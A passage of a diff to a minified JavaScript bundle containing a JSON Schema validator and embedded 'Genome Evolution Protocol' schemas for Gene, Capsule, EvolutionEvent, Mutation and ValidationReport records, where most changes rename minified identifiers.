+error:"Instance does not match every subschema."})}if(O!==void 0){const oe=`${a}/oneOf`,ae=W.length,we=O.filter((ne,Q)=>{
+const q=Object.create(c),he=st(t,ne,n,s,r,f===!0?i:null,o,`${oe}/${Q}`,q);return W.push(...he.errors),he.valid&&rt.push(
+q),he.valid}).length;we===1?W.length=ae:W.splice(ae,0,{instanceLocation:o,keyword:"oneOf",keywordLocation:oe,error:`Inst\
 ance does not match exactly one subschema (${we} matches).`})}if((l==="object"||l==="array")&&Object.assign(c,...rt),v!==
 void 0){const oe=`${a}/if`,ae=Object.create(null);if(st(t,v,n,s,r,i,o,oe,ae).valid){if(Object.assign(c,ae),I!==void 0){const ne=st(
-t,I,n,s,r,i,o,`${a}/then`,c);ne.valid||q.push({instanceLocation:o,keyword:"if",keywordLocation:oe,error:'Instance does n\
-ot match "then" schema.'},...ne.errors)}}else if(_!==void 0){const ne=st(t,_,n,s,r,i,o,`${a}/else`,c);ne.valid||q.push({
+t,I,n,s,r,i,o,`${a}/then`,c);ne.valid||W.push({instanceLocation:o,keyword:"if",keywordLocation:oe,error:'Instance does n\
+ot match "then" schema.'},...ne.errors)}}else if(_!==void 0){const ne=st(t,_,n,s,r,i,o,`${a}/else`,c);ne.valid||W.push({
 instanceLocation:o,keyword:"if",keywordLocation:oe,error:'Instance does not match "else" schema.'},...ne.errors)}}if(l===
-"object"){if(C!==void 0)for(const ne of C)Ln(t,ne)||q.push({instanceLocation:o,keyword:"required",keywordLocation:`${a}/\
+"object"){if(C!==void 0)for(const ne of C)Ln(t,ne)||W.push({instanceLocation:o,keyword:"required",keywordLocation:`${a}/\
 required`,error:`Instance does not have required property "${ne}".`});const oe=Object.keys(t);if(le!==void 0&&oe.length<
-le&&q.push({instanceLocation:o,keyword:"minProperties",keywordLocation:`${a}/minProperties`,error:`Instance does not hav\
-e at least ${le} properties.`}),de!==void 0&&oe.length>de&&q.push({instanceLocation:o,keyword:"maxProperties",keywordLocation:`${a}\
+le&&W.push({instanceLocation:o,keyword:"minProperties",keywordLocation:`${a}/minProperties`,error:`Instance does not hav\
+e at least ${le} properties.`}),de!==void 0&&oe.length>de&&W.push({instanceLocation:o,keyword:"maxProperties",keywordLocation:`${a}\
 /maxProperties`,error:`Instance does not have at least ${de} properties.`}),G!==void 0){const ne=`${a}/propertyNames`;for(const Q in t){
-const W=`${o}/${Gt(Q)}`,he=st(Q,G,n,s,r,i,W,ne);he.valid||q.push({instanceLocation:o,keyword:"propertyNames",keywordLocation:ne,
+const q=`${o}/${Gt(Q)}`,he=st(Q,G,n,s,r,i,q,ne);he.valid||W.push({instanceLocation:o,keyword:"propertyNames",keywordLocation:ne,
 error:`Property name "${Q}" does not match schema.`},...he.errors)}}if(ce!==void 0){const ne=`${a}/dependantRequired`;for(const Q in ce)
-if(Ln(t,Q)){const W=ce[Q];for(const he of W)Ln(t,he)||q.push({instanceLocation:o,keyword:"dependentRequired",keywordLocation:ne,
-error:`Instance has "${Q}" but does not have "${he}".`})}}if(De!==void 0)for(const[ne,Q]of Object.entries(De)){const W=`${a}\
-/dependentSchemas`;if(Ln(t,ne)){const he=st(t,Q,n,s,r,i,o,`${W}/${Gt(ne)}`,c);he.valid||q.push({instanceLocation:o,keyword:"\
-dependentSchemas",keywordLocation:W,error:`Instance has "${ne}" but does not match dependant schema.`},...he.errors)}}if(Ne!==
-void 0){const ne=`${a}/dependencies`;for(const Q in Ne)if(Ln(t,Q)){const W=Ne[Q];if(Array.isArray(W))for(const he of W)Ln(
-t,he)||q.push({instanceLocation:o,keyword:"dependencies",keywordLocation:ne,error:`Instance has "${Q}" but does not have\
- "${he}".`});else{const he=st(t,W,n,s,r,i,o,`${ne}/${Gt(Q)}`);he.valid||q.push({instanceLocation:o,keyword:"dependencies",
+if(Ln(t,Q)){const q=ce[Q];for(const he of q)Ln(t,he)||W.push({instanceLocation:o,keyword:"dependentRequired",keywordLocation:ne,
+error:`Instance has "${Q}" but does not have "${he}".`})}}if(De!==void 0)for(const[ne,Q]of Object.entries(De)){const q=`${a}\
+/dependentSchemas`;if(Ln(t,ne)){const he=st(t,Q,n,s,r,i,o,`${q}/${Gt(ne)}`,c);he.valid||W.push({instanceLocation:o,keyword:"\
+dependentSchemas",keywordLocation:q,error:`Instance has "${ne}" but does not match dependant schema.`},...he.errors)}}if(Ne!==
+void 0){const ne=`${a}/dependencies`;for(const Q in Ne)if(Ln(t,Q)){const q=Ne[Q];if(Array.isArray(q))for(const he of q)Ln(
+t,he)||W.push({instanceLocation:o,keyword:"dependencies",keywordLocation:ne,error:`Instance has "${Q}" but does not have\
+ "${he}".`});else{const he=st(t,q,n,s,r,i,o,`${ne}/${Gt(Q)}`);he.valid||W.push({instanceLocation:o,keyword:"dependencies",
 keywordLocation:ne,error:`Instance has "${Q}" but does not match dependant schema.`},...he.errors)}}}const ae=Object.create(
-null);let we=!1;if(S!==void 0){const ne=`${a}/properties`;for(const[Q,W]of Object.entries(S)){if(!Ln(t,Q))continue;const he=`${o}\
-/${Gt(Q)}`,tt=st(t[Q],W,n,s,r,i,he,`${ne}/${Gt(Q)}`);if(ae[Q]=!0,tt.valid)c[Q]=!0;else if(we=r,q.push({instanceLocation:o,
+null);let we=!1;if(S!==void 0){const ne=`${a}/properties`;for(const[Q,q]of Object.entries(S)){if(!Ln(t,Q))continue;const he=`${o}\
+/${Gt(Q)}`,tt=st(t[Q],q,n,s,r,i,he,`${ne}/${Gt(Q)}`);if(ae[Q]=!0,tt.valid)c[Q]=!0;else if(we=r,W.push({instanceLocation:o,
 keyword:"properties",keywordLocation:ne,error:`Property "${Q}" does not match schema.`},...tt.errors),we)break}}if(!we&&
-j!==void 0){const ne=`${a}/patternProperties`;for(const[Q,W]of Object.entries(j)){const he=new RegExp(Q,"u");for(const tt in t){
-if(!he.test(tt))continue;const X=`${o}/${Gt(tt)}`,Pe=st(t[tt],W,n,s,r,i,X,`${ne}/${Gt(Q)}`);ae[tt]=!0,Pe.valid?c[tt]=!0:
-(we=r,q.push({instanceLocation:o,keyword:"patternProperties",keywordLocation:ne,error:`Property "${tt}" matches pattern \
+j!==void 0){const ne=`${a}/patternProperties`;for(const[Q,q]of Object.entries(j)){const he=new RegExp(Q,"u");for(const tt in t){
+if(!he.test(tt))continue;const X=`${o}/${Gt(tt)}`,Pe=st(t[tt],q,n,s,r,i,X,`${ne}/${Gt(Q)}`);ae[tt]=!0,Pe.valid?c[tt]=!0:
+(we=r,W.push({instanceLocation:o,keyword:"patternProperties",keywordLocation:ne,error:`Property "${tt}" matches pattern \
 "${Q}" but does not match associated schema.`},...Pe.errors))}}}if(!we&&z!==void 0){const ne=`${a}/additionalProperties`;
-for(const Q in t){if(ae[Q])continue;const W=`${o}/${Gt(Q)}`,he=st(t[Q],z,n,s,r,i,W,ne);he.valid?c[Q]=!0:(we=r,q.push({instanceLocation:o,
+for(const Q in t){if(ae[Q])continue;const q=`${o}/${Gt(Q)}`,he=st(t[Q],z,n,s,r,i,q,ne);he.valid?c[Q]=!0:(we=r,W.push({instanceLocation:o,
 keyword:"additionalProperties",keywordLocation:ne,error:`Property "${Q}" does not match additional properties schema.`},
-...he.errors))}}else if(!we&&Z!==void 0){const ne=`${a}/unevaluatedProperties`;for(const Q in t)if(!c[Q]){const W=`${o}/${Gt(
-Q)}`,he=st(t[Q],Z,n,s,r,i,W,ne);he.valid?c[Q]=!0:q.push({instanceLocation:o,keyword:"unevaluatedProperties",keywordLocation:ne,
+...he.errors))}}else if(!we&&Z!==void 0){const ne=`${a}/unevaluatedProperties`;for(const Q in t)if(!c[Q]){const q=`${o}/${Gt(
+Q)}`,he=st(t[Q],Z,n,s,r,i,q,ne);he.valid?c[Q]=!0:W.push({instanceLocation:o,keyword:"unevaluatedProperties",keywordLocation:ne,
 error:`Property "${Q}" does not match unevaluated properties schema.`},...he.errors)}}}else if(l==="array"){pe!==void 0&&
-t.length>pe&&q.push({instanceLocation:o,keyword:"maxItems",keywordLocation:`${a}/maxItems`,error:`Array has too many ite\
-ms (${t.length} > ${pe}).`}),Y!==void 0&&t.length<Y&&q.push({instanceLocation:o,keyword:"minItems",keywordLocation:`${a}\
+t.length>pe&&W.push({instanceLocation:o,keyword:"maxItems",keywordLocation:`${a}/maxItems`,error:`Array has too many ite\
+ms (${t.length} > ${pe}).`}),Y!==void 0&&t.length<Y&&W.push({instanceLocation:o,keyword:"minItems",keywordLocation:`${a}\
 /minItems`,error:`Array has too few items (${t.length} < ${Y}).`});const oe=t.length;let ae=0,we=!1;if(te!==void 0){const ne=`${a}\
-/prefixItems`,Q=Math.min(te.length,oe);for(;ae<Q;ae++){const W=st(t[ae],te[ae],n,s,r,i,`${o}/${ae}`,`${ne}/${ae}`);if(c[ae]=
-!0,!W.valid&&(we=r,q.push({instanceLocation:o,keyword:"prefixItems",keywordLocation:ne,error:"Items did not match schema\
-."},...W.errors),we))break}}if(Me!==void 0){const ne=`${a}/items`;if(Array.isArray(Me)){const Q=Math.min(Me.length,oe);for(;ae<
-Q;ae++){const W=st(t[ae],Me[ae],n,s,r,i,`${o}/${ae}`,`${ne}/${ae}`);if(c[ae]=!0,!W.valid&&(we=r,q.push({instanceLocation:o,
-keyword:"items",keywordLocation:ne,error:"Items did not match schema."},...W.errors),we))break}}else for(;ae<oe;ae++){const Q=st(
-t[ae],Me,n,s,r,i,`${o}/${ae}`,ne);if(c[ae]=!0,!Q.valid&&(we=r,q.push({instanceLocation:o,keyword:"items",keywordLocation:ne,
+/prefixItems`,Q=Math.min(te.length,oe);for(;ae<Q;ae++){const q=st(t[ae],te[ae],n,s,r,i,`${o}/${ae}`,`${ne}/${ae}`);if(c[ae]=
+!0,!q.valid&&(we=r,W.push({instanceLocation:o,keyword:"prefixItems",keywordLocation:ne,error:"Items did not match schema\
+."},...q.errors),we))break}}if(Me!==void 0){const ne=`${a}/items`;if(Array.isArray(Me)){const Q=Math.min(Me.length,oe);for(;ae<
+Q;ae++){const q=st(t[ae],Me[ae],n,s,r,i,`${o}/${ae}`,`${ne}/${ae}`);if(c[ae]=!0,!q.valid&&(we=r,W.push({instanceLocation:o,
+keyword:"items",keywordLocation:ne,error:"Items did not match schema."},...q.errors),we))break}}else for(;ae<oe;ae++){const Q=st(
+t[ae],Me,n,s,r,i,`${o}/${ae}`,ne);if(c[ae]=!0,!Q.valid&&(we=r,W.push({instanceLocation:o,keyword:"items",keywordLocation:ne,
 error:"Items did not match schema."},...Q.errors),we))break}if(!we&&Ge!==void 0){const Q=`${a}/additionalItems`;for(;ae<
-oe;ae++){const W=st(t[ae],Ge,n,s,r,i,`${o}/${ae}`,Q);c[ae]=!0,W.valid||(we=r,q.push({instanceLocation:o,keyword:"additio\
-nalItems",keywordLocation:Q,error:"Items did not match additional items schema."},...W.errors))}}}if(Ee!==void 0)if(oe===
-0&&K===void 0)q.push({instanceLocation:o,keyword:"contains",keywordLocation:`${a}/contains`,error:"Array is empty. It mu\
-st contain at least one item matching the schema."});else if(K!==void 0&&oe<K)q.push({instanceLocation:o,keyword:"minCon\
+oe;ae++){const q=st(t[ae],Ge,n,s,r,i,`${o}/${ae}`,Q);c[ae]=!0,q.valid||(we=r,W.push({instanceLocation:o,keyword:"additio\
+nalItems",keywordLocation:Q,error:"Items did not match additional items schema."},...q.errors))}}}if(Ee!==void 0)if(oe===
+0&&K===void 0)W.push({instanceLocation:o,keyword:"contains",keywordLocation:`${a}/contains`,error:"Array is empty. It mu\
+st contain at least one item matching the schema."});else if(K!==void 0&&oe<K)W.push({instanceLocation:o,keyword:"minCon\
 tains",keywordLocation:`${a}/minContains`,error:`Array has less items (${oe}) than minContains (${K}).`});else{const ne=`${a}\
-/contains`,Q=q.length;let W=0;for(let he=0;he<oe;he++){const tt=st(t[he],Ee,n,s,r,i,`${o}/${he}`,ne);tt.valid?(c[he]=!0,
-W++):q.push(...tt.errors)}W>=(K||0)&&(q.length=Q),K===void 0&&W===0?q.splice(Q,0,{instanceLocation:o,keyword:"contains",
-keywordLocation:ne,error:"Array does not contain item matching schema."}):K!==void 0&&W<K?q.push({instanceLocation:o,keyword:"\
-minContains",keywordLocation:`${a}/minContains`,error:`Array must contain at least ${K} items matching schema. Only ${W}\
- items were found.`}):H!==void 0&&W>H&&q.push({instanceLocation:o,keyword:"maxContains",keywordLocation:`${a}/maxContain\
-s`,error:`Array may contain at most ${H} items matching schema. ${W} items were found.`})}if(!we&&_e!==void 0){const ne=`${a}\
-/unevaluatedItems`;for(ae;ae<oe;ae++){if(c[ae])continue;const Q=st(t[ae],_e,n,s,r,i,`${o}/${ae}`,ne);c[ae]=!0,Q.valid||q.
+/contains`,Q=W.length;let q=0;for(let he=0;he<oe;he++){const tt=st(t[he],Ee,n,s,r,i,`${o}/${he}`,ne);tt.valid?(c[he]=!0,
+q++):W.push(...tt.errors)}q>=(K||0)&&(W.length=Q),K===void 0&&q===0?W.splice(Q,0,{instanceLocation:o,keyword:"contains",
+keywordLocation:ne,error:"Array does not contain item matching schema."}):K!==void 0&&q<K?W.push({instanceLocation:o,keyword:"\
+minContains",keywordLocation:`${a}/minContains`,error:`Array must contain at least ${K} items matching schema. Only ${q}\
+ items were found.`}):H!==void 0&&q>H&&W.push({instanceLocation:o,keyword:"maxContains",keywordLocation:`${a}/maxContain\
+s`,error:`Array may contain at most ${H} items matching schema. ${q} items were found.`})}if(!we&&_e!==void 0){const ne=`${a}\
+/unevaluatedItems`;for(ae;ae<oe;ae++){if(c[ae])continue;const Q=st(t[ae],_e,n,s,r,i,`${o}/${ae}`,ne);c[ae]=!0,Q.valid||W.
 push({instanceLocation:o,keyword:"unevaluatedItems",keywordLocation:ne,error:"Items did not match unevaluated items sche\
-ma."},...Q.errors)}}if(Ce)for(let ne=0;ne<oe;ne++){const Q=t[ne],W=typeof Q=="object"&&Q!==null;for(let he=0;he<oe;he++){
-if(ne===he)continue;const tt=t[he];(Q===tt||W&&(typeof tt=="object"&&tt!==null)&&Hs(Q,tt))&&(q.push({instanceLocation:o,
+ma."},...Q.errors)}}if(Ce)for(let ne=0;ne<oe;ne++){const Q=t[ne],q=typeof Q=="object"&&Q!==null;for(let he=0;he<oe;he++){
+if(ne===he)continue;const tt=t[he];(Q===tt||q&&(typeof tt=="object"&&tt!==null)&&Hs(Q,tt))&&(W.push({instanceLocation:o,
 keyword:"uniqueItems",keywordLocation:`${a}/uniqueItems`,error:`Duplicate items at indexes ${ne} and ${he}.`}),ne=Number.
-MAX_SAFE_INTEGER,he=Number.MAX_SAFE_INTEGER)}}}else if(l==="number")n==="4"?(U!==void 0&&(R===!0&&t<=U||t<U)&&q.push({instanceLocation:o,
+MAX_SAFE_INTEGER,he=Number.MAX_SAFE_INTEGER)}}}else if(l==="number")n==="4"?(U!==void 0&&(R===!0&&t<=U||t<U)&&W.push({instanceLocation:o,
 keyword:"minimum",keywordLocation:`${a}/minimum`,error:`${t} is less than ${R?"or equal to ":""} ${U}.`}),re!==void 0&&(Le===
-!0&&t>=re||t>re)&&q.push({instanceLocation:o,keyword:"maximum",keywordLocation:`${a}/maximum`,error:`${t} is greater tha\
-n ${Le?"or equal to ":""} ${re}.`})):(U!==void 0&&t<U&&q.push({instanceLocation:o,keyword:"minimum",keywordLocation:`${a}\
-/minimum`,error:`${t} is less than ${U}.`}),re!==void 0&&t>re&&q.push({instanceLocation:o,keyword:"maximum",keywordLocation:`${a}\
-/maximum`,error:`${t} is greater than ${re}.`}),R!==void 0&&t<=R&&q.push({instanceLocation:o,keyword:"exclusiveMinimum",
-keywordLocation:`${a}/exclusiveMinimum`,error:`${t} is less than ${R}.`}),Le!==void 0&&t>=Le&&q.push({instanceLocation:o,
+!0&&t>=re||t>re)&&W.push({instanceLocation:o,keyword:"maximum",keywordLocation:`${a}/maximum`,error:`${t} is greater tha\
+n ${Le?"or equal to ":""} ${re}.`})):(U!==void 0&&t<U&&W.push({instanceLocation:o,keyword:"minimum",keywordLocation:`${a}\
+/minimum`,error:`${t} is less than ${U}.`}),re!==void 0&&t>re&&W.push({instanceLocation:o,keyword:"maximum",keywordLocation:`${a}\
+/maximum`,error:`${t} is greater than ${re}.`}),R!==void 0&&t<=R&&W.push({instanceLocation:o,keyword:"exclusiveMinimum",
+keywordLocation:`${a}/exclusiveMinimum`,error:`${t} is less than ${R}.`}),Le!==void 0&&t>=Le&&W.push({instanceLocation:o,
 keyword:"exclusiveMaximum",keywordLocation:`${a}/exclusiveMaximum`,error:`${t} is greater than or equal to ${Le}.`})),Fe!==
-void 0&&(Xv(t,Fe)||q.push({instanceLocation:o,keyword:"multipleOf",keywordLocation:`${a}/multipleOf`,error:`${t} is not \
-a multiple of ${Fe}.`}));else if(l==="string"){const oe=je===void 0&&M===void 0?0:Yv(t);je!==void 0&&oe<je&&q.push({instanceLocation:o,
-keyword:"minLength",keywordLocation:`${a}/minLength`,error:`String is too short (${oe} < ${je}).`}),M!==void 0&&oe>M&&q.
+void 0&&(Vv(t,Fe)||W.push({instanceLocation:o,keyword:"multipleOf",keywordLocation:`${a}/multipleOf`,error:`${t} is not \
+a multiple of ${Fe}.`}));else if(l==="string"){const oe=je===void 0&&M===void 0?0:Wv(t);je!==void 0&&oe<je&&W.push({instanceLocation:o,
+keyword:"minLength",keywordLocation:`${a}/minLength`,error:`String is too short (${oe} < ${je}).`}),M!==void 0&&oe>M&&W.
 push({instanceLocation:o,keyword:"maxLength",keywordLocation:`${a}/maxLength`,error:`String is too long (${oe} > ${M}).`}),
-F!==void 0&&!new RegExp(F,"u").test(t)&&q.push({instanceLocation:o,keyword:"pattern",keywordLocation:`${a}/pattern`,error:"\
-String does not match pattern."}),$!==void 0&&_B[$]&&!_B[$](t)&&q.push({instanceLocation:o,keyword:"format",keywordLocation:`${a}\
-/format`,error:`String does not match format "${$}".`})}return{valid:q.length===0,errors:q}}class Qv{schema;draft;shortCircuit;lookup;constructor(e,n="\
+F!==void 0&&!new RegExp(F,"u").test(t)&&W.push({instanceLocation:o,keyword:"pattern",keywordLocation:`${a}/pattern`,error:"\
+String does not match pattern."}),$!==void 0&&CB[$]&&!CB[$](t)&&W.push({instanceLocation:o,keyword:"format",keywordLocation:`${a}\
+/format`,error:`String does not match format "${$}".`})}return{valid:W.length===0,errors:W}}class Yv{schema;draft;shortCircuit;lookup;constructor(e,n="\
 2019-09",s=!0){this.schema=e,this.draft=n,this.shortCircuit=s,this.lookup=Fn(e)}validate(e){return st(e,this.schema,this.
-draft,this.lookup,this.shortCircuit)}addSchema(e,n){n&&(e={...e,$id:n}),Fn(e,this.lookup)}}const eD=JSON.parse('{"$schem\
+draft,this.lookup,this.shortCircuit)}addSchema(e,n){n&&(e={...e,$id:n}),Fn(e,this.lookup)}}const Xv=JSON.parse('{"$schem\
 a":"http://json-schema.org/draft-07/schema#","$id":"https://evomap.ai/gep/schemas/capsule.schema.json","title":"GEP Caps\
 ule","description":"A record of a single evolution in the Genome Evolution Protocol","type":"object","required":["type",\
 "schema_version","id","trigger","gene","summary","confidence","blast_radius","outcome","asset_id"],"properties":{"type":\
@@ -3149,7 +3151,7 @@ ibility":{"type":["string","null"],"enum":["private","unlisted","public",null]},
 :{"type":"string","minLength":1}},"cost_tier":{"type":["string","null"],"enum":["cheap","standard","premium",null]},"pac\
 k_of":{"type":["array","null"],"items":{"type":"string","pattern":"^sha256:[a-f0-9]{64}$"}},"author":{"type":["object","\
 null"],"required":["handle","evox_install_id"],"properties":{"handle":{"type":"string","minLength":1},"evox_install_id":\
-{"type":"string","minLength":1}},"additionalProperties":false}},"additionalProperties":false}'),tD=JSON.parse('{"$schema\
+{"type":"string","minLength":1}},"additionalProperties":false}},"additionalProperties":false}'),Qv=JSON.parse('{"$schema\
 ":"http://json-schema.org/draft-07/schema#","$id":"https://evomap.ai/gep/schemas/evolution-event.schema.json","title":"G\
 EP EvolutionEvent","description":"Full audit record of one evolution cycle","type":"object","required":["type","schema_v\
 ersion","id","intent","signals","genes_used","mutation_id","blast_radius","outcome","source_type","asset_id"],"propertie\
@@ -3165,7 +3167,7 @@ gerprint":{"type":["object","null"]},"validation_report_id":{"type":["string","n
 ,"trigger_context":{"type":["object","null"],"properties":{"prompt":{"type":"string","maxLength":2000},"reasoning_trace"\
 :{"type":"string","maxLength":4000},"context_signals":{"type":"array","items":{"type":"string"}},"session_id":{"type":"s\
 tring"},"agent_model":{"type":"string"}},"additionalProperties":false},"asset_id":{"type":"string","pattern":"^sha256:[a\
--f0-9]{64}$"}},"additionalProperties":false}'),nD=JSON.parse(`{"$schema":"http://json-schema.org/draft-07/schema#","$id"\
+-f0-9]{64}$"}},"additionalProperties":false}'),eD=JSON.parse(`{"$schema":"http://json-schema.org/draft-07/schema#","$id"\
 :"https://evomap.ai/gep/schemas/gene.schema.json","title":"GEP Gene","description":"A reusable evolution strategy in the\
  Genome Evolution Protocol","type":"object","required":["type","schema_version","id","category","signals_match","strateg\
 y","constraints","validation","asset_id"],"properties":{"type":{"const":"Gene"},"schema_version":{"type":"string","patte\
@@ -3207,7 +3209,7 @@ ring","enum":["ci","local","prod","sandbox"]}},"additionalProperties":false},"ve
 cific projection uses this axis; absent means 'no verifier binding' and disqualifies the record from strict K_auto.","pr\
 operties":{"verifier":{"type":"string","minLength":1,"description":"Verifier identity, e.g. 'gep-verify@1.4', 'npm-test'\
 ."},"decision":{"type":"string","enum":["pass","fail","inconclusive"]}},"additionalProperties":false},"asset_id":{"type"\
-:"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}`),sD=JSON.parse('{"$schema":"http://json-sch\
+:"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}`),tD=JSON.parse('{"$schema":"http://json-sch\
 ema.org/draft-07/schema#","$id":"https://evomap.ai/gep/schemas/mutation.schema.json","title":"GEP Mutation","description\
 ":"Declaration of intended change before execution. Unlike the other content-addressable asset types, the reference engi\
 ne treats Mutation as a transient in-memory object and typically does not stamp `schema_version` / `asset_id`. Both fiel\
@@ -3217,76 +3219,76 @@ xpected_effect","risk_level"],"properties":{"type":{"const":"Mutation"},"schema_
 d+\\\\.\\\\d+\\\\.\\\\d+$"},"id":{"type":"string","minLength":1},"category":{"type":"string","enum":["repair","optimize","innova\
 te","explore"]},"trigger_signals":{"type":"array","items":{"type":"string"}},"target":{"type":"string","minLength":1},"e\
 xpected_effect":{"type":"string","minLength":1},"risk_level":{"type":"string","enum":["low","medium","high"]},"asset_id"\
-:{"type":"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}'),DB=["Gene","Capsule","EvolutionEve\
-nt","ValidationReport","Mutation"],I2=null,rD=["standard","strong","very_strong"],iD=["none","process_group","namespaces"],
-$2=null,oD=["error","warning","notice"],aD="^sha256:[a-f0-9]{64}$",cD={type:"object",required:["type","schema_version","\
+:{"type":"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}'),_B=["Gene","Capsule","EvolutionEve\
+nt","ValidationReport","Mutation"],I2=null,nD=["standard","strong","very_strong"],sD=["none","process_group","namespaces"],
+$2=null,rD=["error","warning","notice"],iD="^sha256:[a-f0-9]{64}$",oD={type:"object",required:["type","schema_version","\
 id","gene_id","commands","overall_ok","duration_ms","created_at","asset_id"],properties:{type:{const:"ValidationReport"},
 schema_version:{type:"string",pattern:"^\\d+\\.\\d+\\.\\d+$"},id:{type:"string",minLength:1},gene_id:{type:"string",minLength:1},
 env_fingerprint:{type:["object","null"]},commands:{type:"array",items:{type:"object",required:["command","ok","stdout","\
 stderr"],properties:{command:{type:"string"},ok:{type:"boolean"},stdout:{type:"string"},stderr:{type:"string"}}}},overall_ok:{
-type:"boolean"},duration_ms:{type:"integer",minimum:0},created_at:{type:"string",minLength:1},asset_id:{type:"string",pattern:aD}}},
-xB={Gene:nD,Capsule:eD,EvolutionEvent:tD,Mutation:sD,ValidationReport:cD};function uD(t,e,n){return lD[n?"all":"first"][t].
-validate(e).errors}const lD={all:OB(!1),first:OB(!0)};function OB(t){const e=DB.map(n=>[n,new Qv(xB[n],"7",t)]);return Object.
-fromEntries(e)}const dD=2e5,BD=50;function AB(t,e){try{return fD(t,e)}catch(n){if(!(n instanceof URIError))throw n;return[
+type:"boolean"},duration_ms:{type:"integer",minimum:0},created_at:{type:"string",minLength:1},asset_id:{type:"string",pattern:iD}}},
+EB={Gene:eD,Capsule:Xv,EvolutionEvent:Qv,Mutation:tD,ValidationReport:oD};function aD(t,e,n){return cD[n?"all":"first"][t].
+validate(e).errors}const cD={all:kB(!1),first:kB(!0)};function kB(t){const e=_B.map(n=>[n,new Yv(EB[n],"7",t)]);return Object.
+fromEntries(e)}const uD=2e5,lD=50;function vB(t,e){try{return dD(t,e)}catch(n){if(!(n instanceof URIError))throw n;return[
 {kind:"invalid",pointer:[],keyword:"propertyNames",expected:"an object whose keys are Unicode text",found:"not",more:0}]}}
-function fD(t,e){const n=uD(t,e,JSON.stringify(e).length<=dD),s=new Map,r=new Set;for(const i of n){if(gD.has(i.keyword))
-continue;const o=pD(i);if(!r.has(o)){r.add(o);for(const a of CD(i,t,e)){const c=hD(i,a),u=s.get(c);s.set(c,u?{...u,more:u.
-more+1}:a)}}}return[...s.values()].slice(0,BD)}function hD({keywordLocation:t},e){switch(e.kind){case"missing":return JSON.
-stringify([t,...e.fields]);case"unknown":return JSON.stringify([t,e.field]);case"invalid":return t}}function pD({keyword:t,
-instanceLocation:e}){return`${mD.has(t)?t:"value"} ${e}`}const mD=new Set(["required","additionalProperties"]),gD=new Set(
-["properties","items","false"]);function CD(t,e,n){const{keyword:s,keywordLocation:r,instanceLocation:i}=t,{pointer:o,value:a}=yD(
-n,i),c=wD(e,r);if(s==="required"){const l=(c.required??[]).filter(d=>!SB(a,d));return[{kind:"missing",pointer:o,fields:l,
+function dD(t,e){const n=aD(t,e,JSON.stringify(e).length<=uD),s=new Map,r=new Set;for(const i of n){if(pD.has(i.keyword))
+continue;const o=fD(i);if(!r.has(o)){r.add(o);for(const a of mD(i,t,e)){const c=BD(i,a),u=s.get(c);s.set(c,u?{...u,more:u.
+more+1}:a)}}}return[...s.values()].slice(0,lD)}function BD({keywordLocation:t},e){switch(e.kind){case"missing":return JSON.
+stringify([t,...e.fields]);case"unknown":return JSON.stringify([t,e.field]);case"invalid":return t}}function fD({keyword:t,
+instanceLocation:e}){return`${hD.has(t)?t:"value"} ${e}`}const hD=new Set(["required","additionalProperties"]),pD=new Set(
+["properties","items","false"]);function mD(t,e,n){const{keyword:s,keywordLocation:r,instanceLocation:i}=t,{pointer:o,value:a}=gD(
+n,i),c=CD(e,r);if(s==="required"){const l=(c.required??[]).filter(d=>!DB(a,d));return[{kind:"missing",pointer:o,fields:l,
 more:0}]}if(s==="additionalProperties"){const l=c.properties??{},d=Object.keys(a??{}).filter(f=>!Object.hasOwn(l,f)),B=Object.
-keys(l).filter(f=>!SB(a,f));return d.map(f=>({kind:"unknown",pointer:[...o,f],field:f,absent:B,more:0}))}const u=kD(s,c);
-return[{kind:"invalid",pointer:o,keyword:s,expected:u,found:IB(a),more:0}]}function SB(t,e){return t!==null&&Object.hasOwn(
-t,e)}function yD(t,e){const n=[];let s=t;for(const r of TB(e))Array.isArray(s)?(n.push(Number(r)),s=s[Number(r)]??null):
-(n.push(r),s=s[r]??null);return{pointer:n,value:s}}function wD(t,e){let n=xB[t];for(const s of TB(e).slice(0,-1))n=n[s];
-return n}function TB(t){return t.split("/").slice(1).map(e=>e.replaceAll("~1","/").replaceAll("~0","~"))}const bD={string:"\
-a string",array:"a list",object:"an object",integer:"an integer",number:"a number",boolean:"a boolean",null:"null"},_D={
-"^\\d+\\.\\d+\\.\\d+$":"three numbers such as `1.13.0`","^sha256:[a-f0-9]{64}$":"`sha256:` and 64 hexadecimal digits"},ED=40;
-function kD(t,e){const n=e[t];switch(t){case"type":return[n].flat().map(s=>bD[String(s)]??String(s)).join(" or ");case"e\
+keys(l).filter(f=>!DB(a,f));return d.map(f=>({kind:"unknown",pointer:[...o,f],field:f,absent:B,more:0}))}const u=_D(s,c);
+return[{kind:"invalid",pointer:o,keyword:s,expected:u,found:OB(a),more:0}]}function DB(t,e){return t!==null&&Object.hasOwn(
+t,e)}function gD(t,e){const n=[];let s=t;for(const r of xB(e))Array.isArray(s)?(n.push(Number(r)),s=s[Number(r)]??null):
+(n.push(r),s=s[r]??null);return{pointer:n,value:s}}function CD(t,e){let n=EB[t];for(const s of xB(e).slice(0,-1))n=n[s];
+return n}function xB(t){return t.split("/").slice(1).map(e=>e.replaceAll("~1","/").replaceAll("~0","~"))}const yD={string:"\
+a string",array:"a list",object:"an object",integer:"an integer",number:"a number",boolean:"a boolean",null:"null"},wD={
+"^\\d+\\.\\d+\\.\\d+$":"three numbers such as `1.13.0`","^sha256:[a-f0-9]{64}$":"`sha256:` and 64 hexadecimal digits"},bD=40;
+function _D(t,e){const n=e[t];switch(t){case"type":return[n].flat().map(s=>yD[String(s)]??String(s)).join(" or ");case"e\
 num":return`one of ${(e.enum??[]).map(s=>JSON.stringify(s)).join(", ")}`;case"const":return JSON.stringify(n);case"patte\
-rn":return _D[String(n)]??`a string that matches ${n}`;case"minLength":return n===1?"a non-empty string":`a string of at\
+rn":return wD[String(n)]??`a string that matches ${n}`;case"minLength":return n===1?"a non-empty string":`a string of at\
  least ${n} characters`;case"maxLength":return`a string of at most ${n} characters`;case"minItems":return n===1?"a non-e\
 mpty list":`a list of at least ${n} items`;case"maxItems":return`a list of at most ${n} items`;case"minimum":return`a nu\
 mber that is at least ${n}`;case"maximum":return`a number that is at most ${n}`;default:return`a value that matches \`${t}\
-\` in the schema`}}function IB(t){return Array.isArray(t)?t.length===0?"an empty list":"a list":t!==null&&typeof t=="obj\
